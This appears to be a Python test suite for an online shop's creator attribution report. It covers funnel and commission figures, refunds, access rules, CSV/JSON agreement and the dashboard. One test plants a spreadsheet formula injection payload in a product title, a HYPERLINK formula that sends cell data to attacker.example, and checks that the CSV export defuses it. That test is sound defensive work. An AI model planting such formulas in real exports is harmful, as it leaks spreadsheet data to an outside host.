"""The attribution report: funnel and money per creator, room, product, post and day; refunds; who may read it;
CSV and JSON agreeing row for row."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from uuid import UUID

from kernel.clock import FixedClock
from shop import TouchKind
from tests.factories import bearer, login, signup
from tests.shop.attribution_helpers import (
    attribution_app,
    buy,
    buyer,
    click,
    complete,
    influencer,
    link,
    receipt,
    refund,
    report,
    staff,
)
from tests.shop.helpers import seller_with_product


@dataclass
class World:
    marketer: str
    seller: str
    seller_token: str
    product: str
    clicker: str
    clicker_token: str
    host: str
    host_token: str
    room: str
    by_click: dict
    in_room: dict
    buyer_token: str


async def _world(app, client, rooms) -> World:  # type: ignore[no-untyped-def]
    """Creator 1 links a product: two people click, one buys 2 units. Creator 2 hosts a room: three viewers (two
    distinct), one buys 1 unit there."""
    marketer = await staff(client, app, "marketer")
    seller_token, product = await seller_with_product(client, price=10_000, stock=50, affiliate_bps=1000)
    seller = (await client.get("/api/me", headers=bearer(seller_token))).json()["id"]
    clicker, clicker_token = await influencer(client)
    host, host_token = await influencer(client)
    room = rooms.open(host, "Spring haul")
    code = await link(client, clicker_token, {"product_id": product})
    _, first = await buyer(client)
    _, second = await buyer(client)
    await click(client, code, first)
    await click(client, code, second)
    by_click = await buy(client, first, product, quantity=2)
    for viewer in ("v:a", "v:a", "v:b"):  # live records a view when someone joins the room
        app.state.touches.record(TouchKind.VIEW, creator_id=UUID(host), room_id=UUID(room), visitor_id=viewer)
    in_room = await buy(client, second, product, source={"room_id": room})
    await app.state.touches.flush()
    return World(
        marketer,
        seller,
        seller_token,
        product,
        clicker,
        clicker_token,
        host,
        host_token,
        room,
        by_click,
        in_room,
        first,
    )


def _by_key(body: dict) -> dict[str, dict]:
    return {row["key"]: row for row in body["rows"]}


async def test_the_report_counts_the_funnel_and_the_money_per_creator_room_and_product(make_settings, clock):
    async with attribution_app(make_settings, clock) as (app, client, rooms):
        w = await _world(app, client, rooms)

        creators = _by_key(await report(client, w.marketer, group_by="creator"))
        assert set(creators) == {w.clicker, w.host}
        c = creators[w.clicker]
        assert (c["clicks"], c["orders"], c["units"], c["gmv"]["amount_minor"]) == (2, 1, 2, 20_000)
        assert c["commission"] == {"amount_minor": 2_000, "currency": "USD"}  # 10% affiliate rate, frozen
        assert c["conversion_rate"] == 0.5 and c["epc"]["amount_minor"] == 1_000 and c["aov"]["amount_minor"] == 20_000
        h = creators[w.host]
        assert (h["views"], h["unique_viewers"], h["orders"], h["gmv"]["amount_minor"]) == (3, 2, 1, 10_000)

        [room] = (await report(client, w.marketer, group_by="room"))["rows"]
        assert (room["key"], room["label"], room["views"], room["orders"]) == (w.room, "Spring haul", 3, 1)
        [product] = (await report(client, w.marketer, group_by="product"))["rows"]
        assert (product["label"], product["clicks"], product["orders"], product["units"]) == ("Linen shirt", 2, 2, 3)
        [day] = (await report(client, w.marketer, group_by="day"))["rows"]
        assert day["key"] == clock.now().date().isoformat() and day["gmv"]["amount_minor"] == 30_000


async def test_a_refund_reverses_commission_and_shows_as_refunds_with_lower_net_gmv(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, rooms):
        w = await _world(app, client, rooms)
        await complete(client, w.seller_token, w.buyer_token, w.by_click["id"])
        before = _by_key(await report(client, w.marketer, group_by="creator"))[w.clicker]

        clock.advance(timedelta(days=1))  # still inside the dispute window
        await refund(client, w.seller_token, w.buyer_token, w.by_click["id"], 5_000)

        after = _by_key(await report(client, w.marketer, group_by="creator"))[w.clicker]
        assert after["gmv"] == before["gmv"]
        assert after["refunds"]["amount_minor"] == 5_000
        assert after["net_gmv"]["amount_minor"] == 15_000
        assert after["commission"]["amount_minor"] == 1_500 < before["commission"]["amount_minor"]
        # The report's commission is what the ledger holds for the creator, net of the claw-back.
        balance = (await client.get("/api/shop/balances", headers=bearer(w.clicker_token))).json()
        assert balance["pending"]["amount_minor"] + balance["available"]["amount_minor"] == 1_500
        line = (await receipt(client, w.marketer, w.by_click["id"]))["lines"][0]
        assert line["rule"] == "last_click" and line["creator_id"] == w.clicker


async def test_filters_narrow_by_range_creator_and_seller(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, rooms):
        w = await _world(app, client, rooms)
        today = clock.now().date()
        assert (
            await report(
                client, w.marketer, **{"from": str(today + timedelta(days=1)), "to": str(today + timedelta(days=2))}
            )
        )["rows"] == []
        only = await report(client, w.marketer, group_by="product", creator_id=w.host)
        assert [(r["orders"], r["units"]) for r in only["rows"]] == [(1, 1)]
        assert (await report(client, w.marketer, seller_id=str(UUID(int=1))))["rows"] == []
        assert len((await report(client, w.marketer, seller_id=w.seller))["rows"]) == 2


async def test_creators_see_only_their_own_rows_and_buyers_and_sellers_none(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, rooms):
        w = await _world(app, client, rooms)
        admin = await staff(client, app, "admin")
        assert len((await report(client, admin, group_by="creator"))["rows"]) == 2
        own = await report(client, w.host_token, group_by="creator")
        assert [row["key"] for row in own["rows"]] == [w.host]
        assert [row["key"] for row in (await report(client, w.host_token, group_by="room"))["rows"]] == [w.room]
        others = await client.get(
            "/api/reports/attribution", params={"creator_id": w.clicker}, headers=bearer(w.host_token)
        )
        assert others.status_code == 403
        _, buyer_token = await buyer(client)
        for token in (buyer_token, w.seller_token):
            for fmt in ("json", "csv"):
                response = await client.get("/api/reports/attribution", params={"format": fmt}, headers=bearer(token))
                assert response.status_code == 403


async def test_csv_and_json_agree_row_for_row(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, rooms):
        w = await _world(app, client, rooms)
        for group_by in ("creator", "room", "post", "product", "day"):
            body = await report(client, w.marketer, group_by=group_by)
            response = await client.get(
                "/api/reports/attribution", params={"group_by": group_by, "format": "csv"}, headers=bearer(w.marketer)
            )
            assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
            table = list(csv.DictReader(io.StringIO(response.text)))
            assert len(table) == len(body["rows"]), group_by
            for row, line in zip(body["rows"], table, strict=True):
                for name, value in row.items():
                    if isinstance(value, dict):
                        assert int(line[f"{name}_amount_minor"]) == value["amount_minor"]
                        assert line[f"{name}_currency"] == value["currency"]
                    else:
                        assert line[name] == str(value), (group_by, name)


async def test_bad_report_parameters_are_refused(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, _):
        marketer = await staff(client, app, "marketer")
        for params in ({"group_by": "city"}, {"from": "2026-03-05", "to": "2026-03-01"}, {"from": "yesterday"}):
            response = await client.get("/api/reports/attribution", params=params, headers=bearer(marketer))
            assert response.status_code in (400, 422), (params, response.text)


async def test_the_dashboard_draws_the_funnel_trend_top_creators_and_table(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, rooms):
        w = await _world(app, client, rooms)
        html = {"accept": "text/html"}
        dashboard = await client.get("/reports", headers={**bearer(w.marketer), **html})
        assert dashboard.status_code == 200
        assert dashboard.text.count('data-testid="funnel-step"') == 4
        assert dashboard.text.count('data-testid="trend-day"') == 1
        assert dashboard.text.count('data-testid="report-row"') == 2 and "Spring haul" not in dashboard.text
        rooms_only = await client.get(
            "/reports/results", params={"group_by": "room"}, headers={**bearer(w.marketer), "HX-Request": "true"}
        )
        assert rooms_only.status_code == 200 and 'id="report-results"' in rooms_only.text
        assert "Spring haul" in rooms_only.text and "<html" not in rooms_only.text
        assert rooms_only.headers["HX-Push-Url"] == "/reports?group_by=room"
        assert 'data-testid="live-refresh"' in rooms_only.text  # the range ends today: it refreshes itself
        refreshed = await client.get(
            "/reports/results",
            params={"group_by": "room"},
            headers={**bearer(w.marketer), "HX-Request": "true", "HX-Trigger": "report-results"},
        )
        assert refreshed.status_code == 200 and "HX-Push-Url" not in refreshed.headers

        mine = await client.get("/reports", headers={**bearer(w.host_token), **html})
        assert mine.status_code == 200 and mine.text.count('data-testid="report-row"') == 1
        assert f'data-key="{w.host}"' in mine.text
        earnings = await client.get("/reports/earnings", headers={**bearer(w.clicker_token), "HX-Request": "true"})
        assert 'data-state="pending"' in earnings.text
        _, buyer_token = await buyer(client)
        assert (await client.get("/reports", headers={**bearer(buyer_token), **html})).status_code == 403


async def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(make_settings, clock: FixedClock):
    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Invoice")'
    async with attribution_app(make_settings, clock) as (app, client, _rooms):
        marketer = await staff(client, app, "marketer")
        seller, product = await seller_with_product(client, price=1_000)
        renamed = await client.patch(f"/api/shop/products/{product}", headers=bearer(seller), json={"title": formula})
        assert renamed.status_code == 200, renamed.text
        _, creator_token = await influencer(client)
        _, buyer_token = await buyer(client)
        await click(client, await link(client, creator_token, {"product_id": product}), buyer_token)
        await buy(client, buyer_token, product)

        response = await client.get(
            "/api/reports/attribution", params={"group_by": "product", "format": "csv"}, headers=bearer(marketer)
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        (line,) = list(csv.DictReader(io.StringIO(response.text)))
        assert line["label"] == "'" + formula
        assert (await report(client, marketer, group_by="product"))["rows"][0]["label"] == formula  # JSON is as typed


async def test_conversion_is_the_share_of_clickers_who_bought_and_never_passes_one(make_settings, clock: FixedClock):
    """One person clicks once and buys twice, another clicks and walks away: half of those who clicked bought."""
    async with attribution_app(make_settings, clock) as (app, client, _rooms):
        marketer = await staff(client, app, "marketer")
        _, product = await seller_with_product(client, price=1_000, stock=20)
        creator, creator_token = await influencer(client)
        code = await link(client, creator_token, {"product_id": product})
        _, loyal = await buyer(client)
        _, browser = await buyer(client)
        await click(client, code, loyal)
        await click(client, code, browser)
        await buy(client, loyal, product)
        await buy(client, loyal, product)
        await app.state.touches.flush()

        for group_by in ("creator", "product", "day"):
            (row,) = (await report(client, marketer, group_by=group_by))["rows"]
            assert (row["clicks"], row["orders"]) == (2, 2), group_by
            assert row["conversion_rate"] == 0.5, group_by  # one of the two who clicked bought

        clock.advance(timedelta(days=1))
        await click(client, code, loyal)
        await buy(client, loyal, product)
        await app.state.touches.flush()
        creators = await report(client, marketer, group_by="creator", creator_id=creator)
        (row,) = creators["rows"]
        assert (row["clicks"], row["orders"], row["conversion_rate"]) == (3, 3, 0.5)
        for row in (await report(client, marketer, group_by="day"))["rows"]:
            assert 0 <= row["conversion_rate"] <= 1


async def test_the_dashboard_filters_creators_and_sellers_by_name(make_settings, clock: FixedClock):
    async with attribution_app(make_settings, clock) as (app, client, _rooms):
        marketer = await staff(client, app, "marketer")
        seller_token, product = await seller_with_product(client, price=1_000, stock=20)
        tokens = {}
        for name in ("Ava Stone", "Avery Lake", "Marco Ruiz"):
            user = await signup(client, ["influencer"], display_name=name)
            tokens[name] = (user["id"], await login(client, user["email"]))
        for name in ("Ava Stone", "Marco Ruiz"):
            _, shopper = await buyer(client)
            await click(client, await link(client, tokens[name][1], {"product_id": product}), shopper)
            await buy(client, shopper, product)
        await app.state.touches.flush()
        html = {**bearer(marketer), "accept": "text/html"}

        narrowed = await client.get("/reports", params={"creator_q": "stone"}, headers=html)
        assert narrowed.status_code == 200
        assert (
            narrowed.text.count('data-testid="report-row"') == 1
            and f'data-key="{tokens["Ava Stone"][0]}"' in narrowed.text
        )
        assert f'<option value="{tokens["Ava Stone"][0]}" selected>Ava Stone</option>' in narrowed.text
        assert "Of the people who clicked, the share who then bought" in narrowed.text
        by_id = await client.get("/reports", params={"creator_id": tokens["Marco Ruiz"][0]}, headers=html)
        assert (
            f'data-key="{tokens["Marco Ruiz"][0]}"' in by_id.text and by_id.text.count('data-testid="report-row"') == 1
        )

        for typed, message in (("nobody", "No creator name contains “nobody”."), ("av", "2 creators match “av”")):
            refused = await client.get("/reports", params={"creator_q": typed}, headers=html)
            assert refused.status_code == 422
            assert f'id="e-creator_q">{message}' in refused.text
        unknown = await client.get("/reports", params={"creator_id": "not-an-id"}, headers=html)
        assert unknown.status_code == 422 and 'id="e-creator_q">There is no such creator' in unknown.text

        choices = await client.get(
            "/reports/people",
            params={"field": "creator", "creator_q": "AV"},
            headers={**bearer(marketer), "HX-Request": "true"},
        )
        assert choices.status_code == 200
        assert [n for n in ("Ava Stone", "Avery Lake", "Marco Ruiz") if n in choices.text] == [
            "Ava Stone",
            "Avery Lake",
        ]
        assert f'<option value="{tokens["Ava Stone"][0]}" selected>' in choices.text

        seller = (await client.get("/api/me", headers=bearer(seller_token))).json()
        sellers = await client.get("/reports", params={"seller_q": seller["display_name"]}, headers=html)
        assert sellers.status_code == 200 and sellers.text.count('data-testid="report-row"') == 2
        swapped = await client.get(
            "/reports/results", params={"creator_q": "marco"}, headers={**bearer(marketer), "HX-Request": "true"}
        )
        assert swapped.text.lstrip().startswith('<div id="report"') and 'id="report-filters"' in swapped.text
        assert swapped.headers["HX-Push-Url"] == f"/reports?group_by=creator&creator_id={tokens['Marco Ruiz'][0]}"
